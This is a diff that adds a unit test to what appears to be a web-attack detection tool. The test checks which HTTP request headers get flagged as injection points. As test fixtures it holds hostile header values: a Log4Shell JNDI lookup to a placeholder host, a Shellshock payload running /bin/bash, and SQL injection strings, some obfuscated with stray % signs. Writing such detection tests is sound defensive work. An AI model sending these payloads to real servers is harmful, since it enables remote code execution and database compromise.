@@ -333,6 +333,34 @@ describe('placements', () => {
     expect(found.some((l) => l.startsWith('header:Sec-Fetch-Mode'))).toBe(false);
   });
 
+  it('reads a protocol header whose value is not what the header holds, and a Cookie header that is no pairs, whole', () => {
+    const headers = (list: Array<[string, string]>) =>
+      locations(view({ method: 'GET', target: '/', requestHeaders: list })).filter((l) => l.startsWith('header:'));
+    expect(
+      headers([
+        ['Host', 'shop.example.com:8443'],
+        ['If-Modified-Since', 'Sat, 05 Dec 2026 10:00:00 GMT'],
+        ['If-None-Match', 'W/"5e1-abcDEF+/="'],
+        ['Accept-Encoding', 'gzip, deflate, br, zstd'],
+        ['Sec-Ch-Ua', '"Not)A;Brand";v="99", "Google Chrome";v="127"'],
+        ['Cookie', 'sid=abc; theme=dark; flag'],
+      ]),
+    ).toEqual([]);
+    expect(
+      headers([
+        ['Host', '${jndi:ldap://x.example/a}'],
+        ['If-Modified-Since', '() { :; }; /bin/bash -c id'],
+        ['Accept-Encoding', "gzip' OR 1=1--"],
+        ['Cookie', '() { :; }; /bin/bash -c id'],
+      ]),
+    ).toEqual([
+      'header:Host=${jndi:ldap://x.example/a}',
+      'header:If-Modified-Since=() { :; }; /bin/bash -c id',
+      "header:Accept-Encoding=gzip' OR 1=1--",
+      'header:Cookie=() { :; }; /bin/bash -c id',
+    ]);
+  });
+
   it('reads a value written between stray % signs as ASP does, beside the value as it is', () => {
     const request = view({ method: 'GET', target: "/s?q=1'%20%o%r%20%1=%1%20--&p=50%off&d=%s%e%l%25e%25c%25t", host: 'a.example.com' });
     const found = locations(request);
